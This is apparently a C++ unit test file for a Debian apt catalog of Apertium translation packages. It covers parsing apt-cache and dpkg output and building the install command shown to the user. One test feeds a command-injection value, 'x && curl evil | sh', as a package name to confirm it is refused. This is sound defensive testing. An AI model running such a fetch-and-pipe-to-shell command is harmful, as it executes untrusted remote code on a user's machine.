#include "platform/linux/packages/AptCatalog.h"

#include "platform/linux/packages/ApertiumPackages.h"

#include <QHash>

#include <gtest/gtest.h>

#include <array>

namespace {

using ApertiumPackages::Found;

// Recorded on Debian 12 with the bookworm lists (shortened).
const QByteArray searchOutput = R"(apertium-dev - Development tools and library for Apertium
apertium-en-es - Transitional dummy package for apertium-eng-spa
apertium-eng-spa - Apertium translation data for the English-Spanish pair
apertium-eo-en - Apertium linguistic data to translate between Esperanto and English
apertium-lex-tools - Constraint-based lexical selection module
apertium-spa-cat - Apertium translation data for the Spanish-Catalan pair
apertium-urd-hin - Apertium translation data for the Urdu-Hindi pair
)";

// dpkg-query -W -f '${Package}\t${db:Status-Abbrev}\n' 'apertium-*'
const QByteArray dpkgOutput = "apertium\tii \n"
                              "apertium-en-es\tun \n"
                              "apertium-eng-spa\tii \n"
                              "apertium-lex-tools\tii \n"
                              "apertium-spa-cat\tii \n"
                              "apertium-eo-en\trc \n";

const QByteArray policyOutput = R"(apertium-eo-en:
  Installed: (none)
  Candidate: 1.0.2-1
  Version table:
     1.0.2-1 500
        500 http://deb.debian.org/debian bookworm/main amd64 Packages
apertium-urd-hin:
  Installed: (none)
  Candidate: (none)
  Version table:
     0.1.0~r64379-4 -1
        500 http://deb.debian.org/debian bookworm/main amd64 Packages
)";

// Answers from recorded outputs, keyed by program and first argument.
AptCatalog::CommandRunner recorded(const QHash<QString, QByteArray>& outputs) {
    return [outputs](const QString& program, const QStringList& arguments) {
        const QString key = program + ' ' + arguments.value(0);
        return outputs.contains(key) ? std::optional(outputs.value(key)) : std::nullopt;
    };
}

QStringList names(const QList<LanguagePackage>& packages) {
    QStringList result;
    for (const LanguagePackage& package : packages)
        result << package.name + (package.installed ? "*" : "");
    return result;
}

TEST(AptCatalogTest, ParsesSearchLines) {
    EXPECT_EQ(AptCatalog::parseSearch(
                  "apertium-eo-en - Esperanto - English data\r\nbroken line\n\napertium-x\n"),
              (QList<Found>{{"apertium-eo-en", "Esperanto - English data", false},
                            {"apertium-x", "", false}}));
}

TEST(AptCatalogTest, InstalledMeansTheCurrentStateIsInstalled) {
    EXPECT_EQ(
        AptCatalog::parseInstalled(dpkgOutput),
        (QSet<QString>{"apertium", "apertium-eng-spa", "apertium-lex-tools", "apertium-spa-cat"}));
    // Held, awaiting triggers, half-configured.
    EXPECT_EQ(AptCatalog::parseInstalled("a\thi \nb\tit \nc\tiF \nd\n"), (QSet<QString>{"a", "b"}));
}

// Nothing installable shows only what dpkg knows, and no apt nothing: both with a note. urd-hin
// has no installable version.
TEST(AptCatalogTest, ListsInstalledAndInstallablePairs) {
    const QHash<QString, QByteArray> all = {{"apt-cache search", searchOutput},
                                            {"dpkg-query -W", dpkgOutput},
                                            {"apt-cache policy", policyOutput}};
    QHash<QString, QByteArray> noPolicy = all;
    noPolicy.remove("apt-cache policy");
    // clang-format off
    const struct { QHash<QString, QByteArray> outputs; QStringList packages;
        /* installed ones starred */ bool note; } cases[] = {
        {all, {"apertium-eng-spa*", "apertium-eo-en", "apertium-spa-cat*"}, false},
        {noPolicy, {"apertium-eng-spa*", "apertium-spa-cat*"}, true},
        {{}, {}, true},
    };
    // clang-format on
    for (const auto& c : cases) {
        const PackageCatalog::Listing listing = AptCatalog(recorded(c.outputs)).packages().result();
        EXPECT_EQ(names(listing.packages), c.packages);
        EXPECT_EQ(listing.note.isEmpty(), !c.note) << listing.note.toStdString();
    }
}

// Never an odd name in a command the user is told to run.
TEST(AptCatalogTest, InstallNamesTheCommandToRun) {
    AptCatalog catalog([](const QString&, const QStringList&) { return std::nullopt; });
    const PrepareResult result = catalog.install("apertium-eng-spa").result();
    EXPECT_EQ(result.outcome, PrepareResult::Outcome::manual);
    EXPECT_EQ(result.command, "sudo apt install apertium-eng-spa");
    for (const char* odd : {"x && curl evil | sh", "-y", "Apertium-eng-spa"}) {
        const PrepareResult refused = catalog.install(odd).result();
        EXPECT_EQ(refused.outcome, PrepareResult::Outcome::failed) << odd;
        EXPECT_TRUE(refused.command.isEmpty()) << odd;
    }
}

TEST(PackageNameTest, RecognisesPairPackagesOnly) {
    const std::array<const char*, 3> pairs[] = {{"apertium-eng-spa", "eng", "spa"},
                                                {"apertium-eo-en", "eo", "en"},
                                                {"apertium-es-ast", "es", "ast"}};
    for (const auto& [name, first, second] : pairs)
        EXPECT_EQ(ApertiumPackages::fromName(name), (LanguagePackage{name, first, second, false}));
    // Tools, libraries, single-language data and malformed names.
    for (const char* name :
         {"apertium", "apertium-dev", "apertium-all-dev", "apertium-lex-tools", "apertium-hin",
          "apertium-eng-eng", "apertium-ENG-spa", "apertium-eng-spa-dbg", "xapertium-eng-spa", ""})
        EXPECT_FALSE(ApertiumPackages::fromName(name)) << name;
}

TEST(CollectTest, KeepsOnePackagePerPairSorted) {
    // clang-format off
    const struct { const char* rule; QList<Found> found; QStringList kept;
        /* installed ones starred */ } cases[] = {
        {"sorted, tools left out, and PackageKit's two reports of an installed one merged",
         {{"apertium-spa-cat", "Apertium translation data for the Spanish-Catalan pair", false},
          {"apertium-dev", "Development tools", false},
          {"apertium-eng-spa", "Apertium translation data for the English-Spanish pair", false},
          {"apertium-eng-spa", "Apertium translation data for the English-Spanish pair", true},
          {"apertium-eo-en", "Esperanto and English", false}},
         {"apertium-eng-spa*", "apertium-eo-en", "apertium-spa-cat"}},
        {"transitional packages left out",
         {{"apertium-id-ms", "Transitional dummy package for apertium-ind-zlm", false},
          {"apertium-ind-zlm", "Apertium translation data for the Indonesian-Malay pair", false}},
         {"apertium-ind-zlm"}},
        // Summaries in another language do not say "transitional"; the pair still appears once.
        {"installed, then current names preferred",
         {{"apertium-en-es", "Übergangspaket", false},
          {"apertium-eng-spa", "Englisch-Spanisch", false},
          {"apertium-es-ca", "Übergangspaket", true},
          {"apertium-spa-cat", "Spanisch-Katalanisch", false},
          {"apertium-cat-spa", "the other direction's name", false}},
         {"apertium-eng-spa", "apertium-es-ca*"}},
        {"nothing", {}, {}},
    };
    // clang-format on
    for (const auto& c : cases)
        EXPECT_EQ(names(ApertiumPackages::collect(c.found)), c.kept) << c.rule;
}

} // namespace
